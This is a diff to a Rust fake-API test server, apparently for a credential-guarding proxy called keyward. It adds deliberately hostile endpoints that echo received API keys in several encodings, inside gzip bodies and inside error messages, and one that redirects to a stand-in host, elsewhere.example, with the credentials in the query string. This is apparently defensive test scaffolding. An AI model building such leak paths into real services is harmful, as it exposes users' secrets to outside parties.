@@ -1,8 +1,10 @@
 //! A local stand-in for the LLM and GitHub APIs, for `keyward demo` and the tests: it records
 //! what it receives and answers like the real APIs, including slow SSE streams.
 //!
-//! Control paths (anywhere in the path): `/_fake/echo-headers`, `/_fake/sse?events=N&interval_ms=M`,
-//! `/_fake/redirect?to=URL`, `/_fake/status/NNN`, `/_fake/slow?ms=N`.
+//! Control paths (anywhere in the path): `/_fake/echo-headers[?chunk=N]`, `/_fake/sse?events=N&interval_ms=M`,
+//! `/_fake/redirect?to=URL`, `/_fake/status/NNN`, `/_fake/slow?ms=N`, and the hostile ones that
+//! try to leak what they received: `/_fake/echo-encoded`, `/_fake/leak-headers`,
+//! `/_fake/gzip-echo`, `/_fake/brotli`, `/_fake/error-echo`.
 
 use std::collections::BTreeMap;
 use std::convert::Infallible;
@@ -10,12 +12,14 @@ use std::net::SocketAddr;
 use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
+use base64::Engine;
 use bytes::Bytes;
 use http::{HeaderMap, Method, Request, Response, StatusCode};
 use http_body_util::combinators::BoxBody;
 use http_body_util::{BodyExt, Full, StreamBody};
 use hyper::body::{Frame, Incoming};
 use hyper_util::rt::{TokioExecutor, TokioIo};
+use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
 use serde_json::json;
 use tokio::net::TcpListener;
 use tokio::sync::watch;
@@ -114,13 +118,64 @@ async fn respond(request: Request<Incoming>, log: Arc<Mutex<Vec<Recorded>>>) -> 
     });
     let path = parts.uri.path();
     let query = parts.uri.query().unwrap_or("");
+    let headers: BTreeMap<String, String> = parts
+        .headers
+        .iter()
+        .map(|(k, v)| (k.to_string(), String::from_utf8_lossy(v.as_bytes()).into_owned()))
+        .collect();
+    let echo = json!({ "headers": headers, "target": target }).to_string();
     let response = if path.contains("/_fake/echo-headers") {
-        let headers: BTreeMap<String, String> = parts
-            .headers
+        match query_param(query, "chunk").and_then(|v| v.parse::<usize>().ok()) {
+            Some(size) => chunked(Bytes::from(echo), size.max(1)),
+            None => full(StatusCode::OK, "application/json", echo),
+        }
+    } else if path.contains("/_fake/echo-encoded") {
+        let b64 = base64::engine::general_purpose::STANDARD;
+        let forms: Vec<serde_json::Value> = received_credentials(&parts.headers, &target)
             .iter()
-            .map(|(k, v)| (k.to_string(), String::from_utf8_lossy(v.as_bytes()).into_owned()))
+            .map(|v| {
+                json!({
+                    "raw": v,
+                    "base64": b64.encode(v),
+                    "base64_url": base64::engine::general_purpose::URL_SAFE.encode(v),
+                    "percent": utf8_percent_encode(v, NON_ALPHANUMERIC).to_string(),
+                    "in_basic": b64.encode(format!("user:{v}")),
+                })
+            })
             .collect();
-        json_response(StatusCode::OK, json!({ "headers": headers, "target": target }))
+        json_response(StatusCode::OK, json!({ "forms": forms }))
+    } else if path.contains("/_fake/leak-headers") {
+        let value = received_credentials(&parts.headers, &target).join(" ");
+        let encoded = utf8_percent_encode(&value, NON_ALPHANUMERIC).to_string();
+        Response::builder()
+            .status(StatusCode::FOUND)
+            .header("location", format!("https://elsewhere.example/callback?auth={encoded}"))
+            .header("content-location", format!("/v1/echo?auth={encoded}"))
+            .header("set-cookie", format!("session={encoded}; HttpOnly"))
+            .header("x-debug-auth", value.replace(['\r', '\n'], ""))
+            .body(Full::new(Bytes::new()).boxed())
+            .expect("valid leak response")
+    } else if path.contains("/_fake/gzip-echo") {
+        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        std::io::Write::write_all(&mut encoder, echo.as_bytes()).expect("writing to a Vec cannot fail");
+        Response::builder()
+            .status(StatusCode::OK)
+            .header("content-type", "application/json")
+            .header("content-encoding", "gzip")
+            .body(Full::new(Bytes::from(encoder.finish().expect("gzip to a Vec"))).boxed())
+            .expect("valid gzip response")
+    } else if path.contains("/_fake/brotli") {
+        Response::builder()
+            .status(StatusCode::OK)
+            .header("content-encoding", "br")
+            .body(Full::new(Bytes::from_static(b"\x1b\x03\x00\xf8")).boxed())
+            .expect("valid br response")
+    } else if path.contains("/_fake/error-echo") {
+        let value = received_credentials(&parts.headers, &target).join(" ");
+        json_response(
+            StatusCode::UNAUTHORIZED,
+            json!({ "error": { "message": format!("Incorrect API key provided: {value}"), "type": "invalid_request_error" } }),
+        )
     } else if path.contains("/_fake/sse") {
         let events = query_param(query, "events").and_then(|v| v.parse().ok()).unwrap_or(5);
         let interval = query_param(query, "interval_ms").and_then(|v| v.parse().ok()).unwrap_or(100);
@@ -158,6 +213,52 @@ async fn respond(request: Request<Incoming>, log: Arc<Mutex<Vec<Recorded>>>) -> 
         json_response(StatusCode::OK, json!({ "ok": true, "method": parts.method.as_str(), "target": target }))
     };
     Ok(response)
+}
+
+/// Every credential-looking thing the upstream received: auth headers (Basic decoded too) and
+/// the query string.
+fn received_credentials(headers: &HeaderMap, target: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    for name in ["authorization", "x-api-key", "api-key"] {
+        for value in headers.get_all(name) {
+            let text = String::from_utf8_lossy(value.as_bytes()).into_owned();
+            if let Some(basic) = text.strip_prefix("Basic ")
+                && let Ok(decoded) = base64::engine::general_purpose::STANDARD.decode(basic)
+            {
+                out.push(String::from_utf8_lossy(&decoded).into_owned());
+            }
+            if let Some((_, token)) = text.split_once(' ') {
+                out.push(token.to_string());
+            }
+            out.push(text);
+        }
+    }
+    if let Some((_, query)) = target.split_once('?') {
+        out.push(query.to_string());
+    }
+    out
+}
+
+/// A body sent in `size`-byte chunks with a short pause between them.
+fn chunked(body: Bytes, size: usize) -> Response<FakeBody> {
+    let stream = futures_util::stream::unfold(0usize, move |at| {
+        let body = body.clone();
+        async move {
+            if at >= body.len() {
+                return None;
+            }
+            if at > 0 {
+                tokio::time::sleep(Duration::from_millis(1)).await;
+            }
+            let end = (at + size).min(body.len());
+            Some((Ok::<_, Infallible>(Frame::data(body.slice(at..end))), end))
+        }
+    });
+    Response::builder()
+        .status(StatusCode::OK)
+        .header("content-type", "application/json")
+        .body(BodyExt::boxed(StreamBody::new(stream)))
+        .expect("valid chunked response")
 }
 
 fn chat_completion() -> Response<FakeBody> {
